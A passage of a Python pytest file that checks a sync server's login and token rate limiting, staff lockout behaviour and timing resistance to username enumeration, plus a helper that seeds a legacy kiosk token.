                            data={"name": "otto", "password": PASSWORDS["otto"]})  # fmt: skip
    assert stopped.status_code == 429 and "Too many failed logins" in stopped.text
    assert requests.get(ref, headers=right, timeout=10).status_code == 200
    unknown = requests.get(ref, headers={"Authorization": "Bearer guess"}, timeout=10)
    assert unknown.status_code == 401  # the logins' count is not the tokens'
    for n in range(9):
        guess = {"Authorization": f"Bearer guess-{n}"}
        assert requests.get(ref, headers=guess, timeout=10).status_code == 401
    over = requests.get(ref, headers={"Authorization": "Bearer guess-x"}, timeout=10)
    assert over.status_code == 429 and "too many failed tokens" in over.text
    assert requests.get(ref, headers=right, timeout=10).status_code == 200
    assert [a for _w, a, _d in audited(office.db)].count("login_failed") == 10


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_failed_tokens_do_not_lock_out_the_staff(office: HeadOffice) -> None:
    staff_add(office.db, "otto")
    ref = f"{office.url}/v1/reference"
    for n in range(11):
        requests.get(ref, headers={"Authorization": f"Bearer guess-{n}"}, timeout=10)
    s = requests.Session()
    got = s.post(f"{office.url}/console/login", timeout=30,
                 data={"name": "otto", "password": PASSWORDS["otto"]})  # fmt: skip
    assert got.status_code == 200 and got.url == f"{office.url}/console/"


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_a_login_takes_as_long_for_an_unknown_name_as_for_a_known_one(office: HeadOffice) -> None:
    """No telling staff names by the time a refusal takes: an unknown name's password is
    verified against a hash of no one's (the medians within a factor of two)."""
    import statistics
    import time

    staff_add(office.db, "otto")
    url = f"{office.url}/console/login"

    def took(name: str, password: str, status: int) -> float:
        started = time.perf_counter()
        got = requests.post(url, data={"name": name, "password": password}, timeout=30,
                            allow_redirects=False)  # fmt: skip
        assert got.status_code == status
        return time.perf_counter() - started

    known: list[float] = []
    unknown: list[float] = []
    for i in range(7):  # seven refusals: under the ten that lock the address out
        known.append(took("otto", PASSWORDS["otto"], 303))
        unknown.append(took(f"nobody-{i}", "guess-guess", 401))
    ratio = statistics.median(known) / statistics.median(unknown)
    assert 0.5 <= ratio <= 2, (known, unknown)


def _registered_before_ids_were_checked(office: HeadOffice, kiosk: str) -> str:
    """A kiosk whose id `register` refuses now (it takes only what a site file may name)
    but an older head office registered: its token."""
    import secrets

    from sqlalchemy import insert

    from sync.store.tables import kiosks, open_db, token_digest
    from tests.test_billing import admin

    assert "is not 2 to 31 capitals" in admin(office.db, "kiosk", "add", kiosk).stderr
    token = secrets.token_urlsafe(24)
    engine = open_db(office.db)
    try:
        with engine.begin() as conn:
            conn.execute(insert(kiosks).values(kiosk_id=kiosk, token_sha256=token_digest(token)))
    finally:
        engine.dispose()
    return token
